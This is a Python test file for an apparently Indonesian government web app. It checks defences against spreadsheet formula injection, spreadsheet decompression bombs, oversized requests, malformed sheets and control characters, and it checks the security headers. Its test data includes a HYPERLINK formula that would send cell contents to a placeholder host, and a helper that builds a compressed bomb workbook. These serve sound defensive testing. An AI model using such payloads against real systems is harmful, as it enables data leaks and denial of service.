"""Hostile input and the browser's protections: text that looks like a formula stays text in every export, the
response headers, oversized requests and spreadsheet bombs refused with a message."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from models.db import session_scope
from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
from models.umum.penolakan import Ditolak
from tests.conftest import masuk
from tests.fabrik import kantor, nama_pengguna, pengguna, realisasi

RUMUS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_text_that_looks_like_a_formula_stays_text_in_the_downloads_and_the_template(client, demo):
    with session_scope(demo) as s:
        kec = kantor(s)
        catat_evaluasi_lengkap(s, kecamatan_id=kec.id, jenis="evaluasi", tahun=2025, triwulan=2,
                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=pengguna(s, peran="tim"),
                               rekomendasi=[RekomendasiBaru(t, "kasi_pem", date(2025, 8, 30)) for t in RUMUS])
        realisasi(s, indikator="IKU-1", tahun=2025, triwulan=2, pembilang="40", penyebut="50", catatan="=1+1")
    masuk(client, nama_pengguna("camat"))
    xlsx = client.get("/unduh/tl-daftar.xlsx?tahun=2025&triwulan=2")
    assert xlsx.status_code == 200 and xlsx.headers["Cache-Control"] == "no-store"
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    sel = [c for baris in ws.iter_rows() for c in baris if c.value in RUMUS]
    assert sorted(c.value for c in sel) == sorted(RUMUS) and {c.data_type for c in sel} == {"s"}
    dibaca = CalamineWorkbook.from_filelike(io.BytesIO(xlsx.data))  # another reader: the text, not a result
    teks = {v for baris in dibaca.get_sheet_by_index(0).to_python() for v in baris}
    assert set(RUMUS) <= teks
    berkas_csv = client.get("/unduh/tl-daftar.csv?tahun=2025&triwulan=2").data.decode("utf-8-sig")
    baris = list(csv.reader(io.StringIO(berkas_csv), delimiter=";"))
    kolom = baris[0].index("Rekomendasi")
    assert sorted(b[kolom] for b in baris[1:]) == sorted("'" + t for t in RUMUS)

    templat = client.get("/realisasi/templat.xlsx?tahun=2025&triwulan=2")
    assert templat.status_code == 200
    ws = load_workbook(io.BytesIO(templat.data)).active
    (catatan,) = [c for baris in ws.iter_rows() for c in baris if c.value == "=1+1"]
    assert catatan.data_type == "s"


def _bom_xlsx(sel: int) -> bytes:
    """The real template's workbook with its sheet replaced by one row of `sel` inline-string cells: small
    compressed, large unpacked."""
    import zipfile

    from openpyxl import Workbook

    from models.kinerja.excel import LEMBAR

    wb = Workbook()
    wb.active.title = LEMBAR
    asli = io.BytesIO()
    wb.save(asli)
    isi = '<c t="inlineStr"><is><t>x</t></is></c>' * sel
    lembar = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats'
              f'.org/spreadsheetml/2006/main"><sheetData><row r="1">{isi}</row></sheetData></worksheet>')
    keluar = io.BytesIO()
    with zipfile.ZipFile(asli) as masuk_zip, zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as z:
        for b in masuk_zip.infolist():
            z.writestr(b.filename, lembar if b.filename == "xl/worksheets/sheet1.xml" else masuk_zip.read(b))
    return keluar.getvalue()


def test_a_spreadsheet_bomb_is_refused_before_it_is_parsed(client, app, demo):
    import base64
    import time

    from tests.dash_util import daftar_callback, panggil, sidik_basis_data, teks_jawaban

    bom = _bom_xlsx(300_000)
    assert len(bom) < 200_000  # small as sent
    masuk(client, nama_pengguna("kasubag_evapor"))
    client.get("/_dash-layout")
    sebelum = sidik_basis_data(demo)
    isi = "data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64," + base64.b64encode(bom).decode()
    kunci = next(k for k, cb in daftar_callback(app).items()
                 if f"{cb['callback'].__module__}.{cb['callback'].__name__}" == "callbacks.realisasi.pratinjau")
    mulai = time.perf_counter()
    teks = teks_jawaban(panggil(client, app, kunci, isi=isi, nama="bom.xlsx", periode={"tahun": 2025, "triwulan": 2}))
    assert time.perf_counter() - mulai < 2
    assert teks.startswith("bom.xlsx: Isi berkas Excel terlalu besar setelah dibuka (lebih dari 8 MB); gunakan "
                           "templat yang diunduh dari halaman ini.")
    assert sidik_basis_data(demo) == sebelum


def test_a_request_body_over_the_limit_is_not_read(client, demo):
    masuk(client, nama_pengguna("kasubag_evapor"))
    r = client.post("/_dash-update-component", data=b"{" + b" " * (13 * 1024 * 1024) + b"}",
                    content_type="application/json")
    assert r.status_code == 413
    assert r.get_json() == {"galat": "Berkas atau isian terlalu besar (lebih dari 12 MB); tidak ada yang disimpan."}


def test_every_answer_carries_the_security_headers(client, demo):
    from app import create_app

    halaman = client.get("/login")
    h = halaman.headers
    csp = h["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]  # scripts: ours, by file or hash
    assert (h["X-Frame-Options"], h["X-Content-Type-Options"], h["Referrer-Policy"], h["Cache-Control"]) == (
        "DENY", "nosniff", "same-origin", "no-store")
    assert "Strict-Transport-Security" not in h  # development and tests run without HTTPS
    statis = client.get("/vendor/bootstrap/css/bootstrap.min.css")
    assert statis.headers.get("Cache-Control") != "no-store" and statis.headers["X-Content-Type-Options"] == "nosniff"
    produksi = create_app({"DATABASE_URL": str(demo.url.render_as_string(hide_password=False)), "APP_ENV": "production",
                           "SECRET_KEY": "kunci-produksi-uji"})
    hsts = produksi.server.test_client().get("/login").headers["Strict-Transport-Security"]
    assert hsts == "max-age=31536000; includeSubDomains"


def test_a_damaged_or_hostile_sheet_is_refused_with_a_message(client, app, demo):
    import base64
    import zipfile

    from models.kinerja.excel import baca, templat

    with session_scope(demo) as s:
        kec = kantor(s)
        asli = templat(s, kecamatan_id=kec.id, tahun=2025, triwulan=2)

    def ubah(fungsi) -> bytes:
        keluar = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(asli)) as z, zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as baru:
            for b in z.infolist():
                isi = z.read(b)
                baru.writestr(b.filename, fungsi(isi.decode()) if b.filename == "xl/worksheets/sheet1.xml" else isi)
        return keluar.getvalue()

    rusak = ubah(lambda x: x.replace("</sheetData>", "<row><c><v>1</sheetData>"))  # broken XML
    nan = ubah(lambda x: x.replace('<c r="B2"', '<c r="B2" t="n"><v>NaN</v></c><c r="Z99"', 1))
    besar = ubah(lambda x: x.replace('<c r="B2"', '<c r="B2" t="n"><v>1E999</v></c><c r="Z98"', 1))
    with session_scope(demo) as s:
        for data in (rusak, nan, besar):
            with pytest.raises(Ditolak) as e:
                baca(s, data, kecamatan_id=kec.id, tahun=2025, triwulan=2)
            assert str(e.value) in ('Lembar "Realisasi" rusak atau tidak dapat dibaca; gunakan templat yang diunduh '
                                    "dari halaman ini.", "Tahun dan triwulan di sel B2 dan B3 tidak terbaca.")
    # Through the page's callback the person reads the message; no 500.
    from tests.dash_util import daftar_callback, panggil, teks_jawaban

    masuk(client, nama_pengguna("kasubag_evapor"))
    client.get("/_dash-layout")
    kunci = next(k for k, cb in daftar_callback(app).items()
                 if f"{cb['callback'].__module__}.{cb['callback'].__name__}" == "callbacks.realisasi.pratinjau")
    isi = "data:application/octet-stream;base64," + base64.b64encode(rusak).decode()
    teks = teks_jawaban(panggil(client, app, kunci, isi=isi, nama="rusak.xlsx", periode={"tahun": 2025, "triwulan": 2}))
    assert teks.startswith('rusak.xlsx: Lembar "Realisasi" rusak atau tidak dapat dibaca')


def test_a_username_with_a_control_character_is_an_ordinary_failure(client, demo):
    from models.akun.pengguna import PESAN_GAGAL

    r = masuk(client, "camat.poncokusumo\x00", "demo12345")
    assert r.status_code == 401 and PESAN_GAGAL in r.get_data(as_text=True)
